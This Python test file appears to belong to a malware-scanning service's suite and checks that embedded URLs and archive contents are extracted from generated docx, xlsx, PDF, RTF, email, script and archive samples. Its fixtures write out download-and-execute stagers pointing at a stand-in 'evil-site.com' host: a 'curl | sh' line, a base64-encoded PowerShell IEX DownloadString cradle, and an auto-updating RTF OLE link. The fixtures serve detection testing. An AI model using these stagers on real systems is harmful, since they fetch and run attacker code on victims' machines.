"""What real documents, scripts and archives name: made by the libraries that people make them with, read by the server."""

import base64
import email.message
import gzip
import hashlib
import io
import itertools
import lzma
import tarfile
import zipfile

import docx
import docx.opc.constants
import openpyxl
import pytest
from reportlab.pdfgen import canvas

_NUMBER = itertools.count()


def _url() -> str:
    return f"https://drop{next(_NUMBER)}.evil-site.com/stage/two.bin"


def _docx(url: str) -> bytes:
    document, out = docx.Document(), io.BytesIO()
    document.add_paragraph("An invoice")
    document.part.relate_to(url, docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.save(out)
    return out.getvalue()


def _xlsx(url: str) -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = f'=HYPERLINK("{url}", "Prices")'
    book.save(out)
    return out.getvalue()


def _pdf(url: str, **more) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out, **more)
    page.linkURL(url, (10, 10, 200, 40))
    page.drawString(10, 20, "Your parcel")
    page.save()
    return out.getvalue()


def _pdf_text(url: str) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out, pageCompression=1)
    page.setPageCompression(1)
    page.drawString(10, 20, url)
    page.save()
    return out.getvalue()


def _rtf(url: str) -> bytes:
    moniker = (b"\xe0\xc9\xea\x79" + url.encode("utf-16-le") + b"\0\0").hex()
    lines = "\r\n".join(moniker[start : start + 61] for start in range(0, len(moniker), 61))
    return b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000" + lines.encode() + b"}}}"


def _script(url: str) -> bytes:
    return b"#!/bin/sh\ncurl -fsSL " + url.encode() + b" | sh\n"


def _powershell(url: str) -> bytes:
    command = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    return b"powershell -nop -enc " + base64.b64encode(command.encode("utf-16-le"))


def _mail(url: str) -> bytes:
    message = email.message.EmailMessage()
    message["Subject"] = "Parcel"
    message.set_content("see the attachment")
    message.add_attachment(f"<html><a href='{url}'>x</a></html>".encode(), maintype="application", subtype="octet-stream")
    return bytes(message)


def _zip(url: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("folder/invoice.docx", _docx(url))
    return out.getvalue()


def _tar(url: str) -> bytes:
    out, script = io.BytesIO(), _script(url)
    with tarfile.open(fileobj=out, mode="w:xz") as archive:
        member = tarfile.TarInfo("bin/run.sh")
        member.size = len(script)
        archive.addfile(member, io.BytesIO(script))
    return out.getvalue()


KINDS = {
    "docx": _docx,
    "xlsx": _xlsx,
    "pdf-link": _pdf,
    "pdf-text": _pdf_text,
    "rtf": _rtf,
    "sh": _script,
    "ps1": _powershell,
    "eml": _mail,
    "zip": _zip,
    "tar.xz": _tar,
    "gz": lambda url: gzip.compress(_script(url)),
    "xz": lambda url: lzma.compress(_powershell(url)),
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_real_file_leads_to_the_addresses_that_it_names_and_back(server, kind):
    url = _url()
    content = KINDS[kind](url)
    assert kind in ("sh",) or url.encode() not in content or kind == "pdf-link", "nothing to unpack"
    file = server.scan(content, f"sample.{kind}")
    named = server.get(f"/files/{file['id']}/embedded_urls?limit=40").json()["data"]
    assert url in [one["context_attributes"]["url"] for one in named], f"{kind}: {named}"
    host = url.split("/")[2]
    domains = server.get(f"/files/{file['id']}/relationships/embedded_domains?limit=40").json()["data"]
    assert host in [one["id"] for one in domains], f"{kind}: {domains}"
    referrers = server.get(f"/domains/{host}/relationships/referrer_files").json()["data"]
    assert [one["id"] for one in referrers] == [file["id"]]


@pytest.mark.parametrize("kind", ["zip", "tar.xz", "gz"])
def test_what_an_archive_holds_leads_back_to_it_once_somebody_brings_it(server, kind):
    url = _url()
    inside = {"zip": _docx, "tar.xz": _script, "gz": _script}[kind](url)
    if kind == "zip":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("folder/invoice.docx", inside)
        packed, name = out.getvalue(), "folder/invoice.docx"
    else:
        packed, name = KINDS[kind](url), {"tar.xz": "bin/run.sh", "gz": "content"}[kind]
    sha256 = hashlib.sha256(inside).hexdigest()
    archive = server.scan(packed, f"sample.{kind}")
    held = server.get(f"/files/{archive['id']}/bundled_files").json()["data"]
    assert [(one["id"], one["context_attributes"]["filename"]) for one in held] == [(sha256, name)]
    assert held[0]["error"]["code"] == "NotFoundError"

    server.scan(inside, "taken-out")
    held = server.get(f"/files/{archive['id']}/bundled_files").json()["data"]
    assert held[0]["attributes"]["size"] == len(inside)
    parents = server.get(f"/files/{sha256}/relationships/compressed_parents").json()["data"]
    assert [one["id"] for one in parents] == [archive["id"]]
    if kind == "zip":
        parts = server.get(f"/files/{sha256}/bundled_files?limit=40").json()["data"]
        assert "word/document.xml" in [one["context_attributes"]["filename"] for one in parts]
